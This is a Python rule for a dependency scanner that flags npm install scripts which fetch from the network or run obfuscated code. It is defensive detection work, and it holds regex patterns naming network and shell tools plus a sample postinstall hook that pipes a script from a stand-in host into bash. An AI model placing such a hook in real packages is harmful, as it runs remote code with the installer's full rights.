"""DEP008: commands that npm runs when a package is installed."""

from __future__ import annotations

import re
from collections.abc import Iterator

from hauberk.core.finding import Finding, Place, Severity
from hauberk.core.rule import Sample, rule
from hauberk.formats.dependencies.dependency_list import DependencyList

# What builds need is a compiler and their own files; these fetch, hide or run text as code.
FETCHES = re.compile(r"\b(?:curl|wget|invoke-webrequest|iwr|nc|ncat|telnet|ftp)\b|https?://|/dev/tcp/", re.I)
HIDES = re.compile(
    r"\bbase64\b|\b(?:node|deno|bun)\s+(?:-e|-p|--eval|--print)\b|\beval\b|\bpython[23]?\s+-c\b"
    r"|powershell\b.*-e(?:nc|ncodedcommand)?\b|\|\s*(?:ba|z)?sh\b|\b(?:ba|z)?sh\s+-c\b",
    re.I,
)


@rule(
    "DEP008",
    Severity.HIGH,
    maps=["CWE-506", "CWE-829", "AML.T0011.001", "AML.T0010.001"],
    bad=[
        Sample("package.json", b'{"scripts": {"postinstall": "curl -s https://x.example/i.sh | bash"}}'),
        Sample("package.json", b'{"scripts": {"preinstall": "node -e \\"require(1)\\""}}'),
    ],
    good=[
        Sample("package.json", b'{"scripts": {"prepare": "husky install", "postinstall": "patch-package"}}'),
        Sample(
            "package.json", b'{"scripts": {"install": "node-gyp rebuild", "test": "curl http://localhost"}}'
        ),
    ],
)
def install_command(view: DependencyList) -> Iterator[Finding]:
    """Installing the package fetches something, or runs code that the command hides.

    Why: npm runs these commands with all rights of whoever installs, and worms of 2025 spread this way.
    Remediation: install with `--ignore-scripts`, and take the command out.
    Source: npm documentation, "scripts", "Life Cycle Operation Order"; MITRE ATLAS AML.T0011.001.
    """
    for each in view.scripts:
        verb = "fetches" if FETCHES.search(each.command) else "hides" if HIDES.search(each.command) else ""
        if verb:
            what = "something from the network" if verb == "fetches" else "what it runs"
            message = f"{each.name} {verb} {what}"
            yield Finding("DEP008", Place(view.locator, line=each.line), message, each.name)
